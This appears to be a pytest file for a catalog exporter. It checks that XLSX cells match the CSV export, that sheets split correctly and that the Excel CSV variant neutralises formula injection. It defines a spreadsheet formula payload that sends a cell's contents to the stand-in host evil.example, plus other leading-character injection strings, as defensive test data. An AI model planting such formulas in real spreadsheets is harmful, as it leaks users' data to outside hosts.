"""The XLSX output read back by openpyxl (independent of XlsxWriter), field by field against the
CSV export of the same definition; and the Excel CSV variant's formula neutralisation."""

from __future__ import annotations

import io
import tracemalloc
import zipfile
from datetime import datetime

import openpyxl
import pytest

from tests import tiny_catalog
from tests.exporters_harness import read_zip_csv, run
from tests.server_helpers import served_fixture  # noqa: F401  (fixture)
from tuiexport import service
from tuiexport.exporters import profiles, registry
from tuiexport.exporters.sql import flags
from tuiexport.models import Product, ProductText, SupplierItem

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def catalog(empty_db):
    tiny_catalog.build()
    # What the CSV Excel variant got wrong: leading zeros, scientific-looking SKUs, formulas.
    Product.update(ean="0123456789012", manufacturer_sku="00042").where(
        Product.puid == 1001
    ).execute()
    Product.update(manufacturer_sku="1E5").where(Product.puid == 1002).execute()
    ProductText.update(name=HOSTILE_NAME).where(ProductText.product == 1003).execute()
    ProductText.update(name="+49 30 1234, @home, -x").where(ProductText.product == 1004).execute()
    ProductText.update(name="\tTab first, then a\nnew line").where(
        ProductText.product == 1005
    ).execute()
    SupplierItem.update(supplier_sku="-0042").where(SupplierItem.product == 1006).execute()
    return empty_db


def sheets(data: bytes) -> dict[str, list[tuple]]:
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    return {ws.title: list(ws.iter_rows(values_only=True)) for ws in book.worksheets}


def same(kind: str, csv_value: str, cell: object) -> bool:
    """Does the typed cell say what the CSV field says?"""
    if csv_value == "":
        return cell is None
    if kind == "text":
        return isinstance(cell, str) and cell == csv_value
    if kind == "int":
        return type(cell) is int and cell == int(csv_value)
    if kind in ("price", "weight"):
        return (
            isinstance(cell, int | float)
            and not isinstance(cell, bool)
            and (cell == float(csv_value))
        )
    if kind == "datetime":
        return isinstance(cell, datetime) and cell.strftime("%d.%m.%Y %H:%M") == csv_value
    if kind == "bool":
        return cell is (csv_value == "true")
    raise ValueError(kind)


@pytest.mark.parametrize("profile", ["standard", "standardUpdate", "developer"])
def test_every_field_of_every_product_equals_the_csv(catalog, profile):
    data, stats, job = run(catalog, profile, "xlsx", limit=18)
    csv_data, csv_stats, _ = run(catalog, profile, "csv", limit=18)
    assert zipfile.ZipFile(io.BytesIO(data)).testzip() is None
    book = sheets(data)
    files = read_zip_csv(csv_data)
    elements = profiles.PROFILES[profile].elements
    assert list(book) == [e.name for e in elements] + ["Log"]
    for element in elements:
        fields = element.fields_for(flags(job))
        rows = book[element.name]
        assert rows[0] == tuple(f.name for f in fields)
        csv_rows = files[f"{element.name}.csv"]
        assert len(rows) - 1 == len(csv_rows) > 0
        for cells, record in zip(rows[1:], csv_rows, strict=True):
            for f, cell in zip(fields, cells, strict=True):
                assert same(f.kind, record[f.name], cell), (element.name, f.name, record, cell)
    assert [r[0] for r in book["Log"][1:]] == [int(r["puid"]) for r in files["Log.csv"]]
    assert stats.product_count == csv_stats.product_count == 18
    assert stats.supplier_shares == csv_stats.supplier_shares
    assert not job.messages


def test_identifiers_stay_text_and_numbers_are_numbers(catalog):
    book = sheets(run(catalog, "standard", "xlsx")[0])
    head = book["product"][0]
    first = dict(zip(head, book["product"][1], strict=True))
    assert first["ean"] == "0123456789012" and first["manufacturerSku"] == "00042"
    second = dict(zip(head, book["product"][2], strict=True))
    assert second["manufacturerSku"] == "1E5"
    assert type(first["weight"]) in (int, float) and isinstance(first["created"], datetime)
    third = dict(zip(head, book["product"][3], strict=True))
    assert third["name"] == HOSTILE_NAME  # a text cell, never a formula
    offer_head = book["supplierItem"][0]
    offer = dict(zip(offer_head, book["supplierItem"][1], strict=True))
    assert offer["price"] == 10.0 and type(offer["price"]) in (int, float)  # a number cell
    with zipfile.ZipFile(io.BytesIO(run(catalog, "standard", "xlsx")[0])) as zf:
        sheet_xml = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in sheet_xml  # no formula anywhere


def test_rows_past_the_sheet_limit_continue_on_a_new_sheet(catalog):
    data, _, job = run(catalog, "standard", "xlsx", tuning={"xlsx_sheet_rows": 8})
    book = sheets(data)
    assert list(book) == [
        "product",
        "product (2)",
        "product (3)",
        "supplierItem",
        "supplierItem (2)",
        "supplierItem (3)",
        "supplierItem (4)",
        "Log",
    ]
    header = book["product"][0]
    puids = [r[0] for name in ("product", "product (2)", "product (3)") for r in book[name][1:]]
    assert all(book[n][0] == header for n in ("product (2)", "product (3)"))
    assert puids == list(range(1001, 1021))
    assert all(len(rows) <= 8 for rows in book.values())
    offers = sum(len(book[n]) - 1 for n in book if n.startswith("supplierItem"))
    assert offers == SupplierItem.select().count()
    assert job.messages[0] == (
        "product: 20 rows are more than one sheet holds (7 rows below the header); "
        "continued on 2 more sheets (product (2)…)."
    )
    assert job.messages[1].startswith("supplierItem: ")


def test_the_registry_serves_xlsx_with_its_content_type():
    writer = registry.get_writer("standard", "xlsx")
    assert writer.extension == "xlsx"
    assert writer.media_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert not registry.is_valid_pair("bmecat12", "xlsx")


def test_share_server_serves_xlsx_with_its_content_type(served):
    selection = service.list_selections()[0]
    d = service.create_definition(
        "Sheet", selection_id=selection.id, profile="standard", output="xlsx"
    )
    path = service.share_path(service.get_definition(d.export_id))
    status, head, body = served.request("GET", path, {"Accept-Encoding": "gzip"})
    assert status == 200, body
    assert head["content-type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert "content-encoding" not in head  # a ZIP already: not gzipped again
    assert head["content-disposition"].endswith('.xlsx"')
    assert [r[0] for r in sheets(body)["product"][1:]] == list(range(1001, 1021))


def _peak(db, limit: int) -> int:
    tracemalloc.start()
    try:
        data = run(db, "standard", "xlsx", limit=limit, tuning={"workers": 1})[0]
        # The harness's output buffer (a BytesIO) grows with the file by design: left out.
        return tracemalloc.get_traced_memory()[1] - len(data)
    finally:
        tracemalloc.stop()


@pytest.mark.slow
def test_memory_stays_flat(empty_db):
    from tuiexport.catalog.demo import generate_demo

    generate_demo(12_000, seed=5)
    small, large = _peak(empty_db, 2_400), _peak(empty_db, 12_000)
    assert large < small * 1.5 + 1_000_000, (small, large)


# --- the CSV Excel variant ----------------------------------------------------------------


def test_excel_csv_neutralises_formulas_in_text_cells_only(catalog):
    for tuning in ({}, {"generic_path": True}):
        data, _, _ = run(
            catalog, "standard", "csv", options={"csv_variant": "excel"}, tuning=tuning
        )
        files = read_zip_csv(data, excel=True)
        names = {int(r["puid"]): r["name"] for r in files["product.csv"]}
        assert names[1003] == "'" + HOSTILE_NAME
        assert names[1004] == "'+49 30 1234, @home, -x"
        assert names[1005] == "'\tTab first, then a\nnew line"
        offers = {int(r["puid"]): r["supplierSku"] for r in files["supplierItem.csv"]}
        assert offers[1006] == "'-0042"
        # Numbers are not text: prices and weights are left as they are.
        assert files["supplierItem.csv"][0]["price"] == "10,00"
    # The platform dialect is byte-exact: nothing is prefixed there.
    plain = read_zip_csv(run(catalog, "standard", "csv")[0])
    assert {int(r["puid"]): r["name"] for r in plain["product.csv"]}[1003] == HOSTILE_NAME
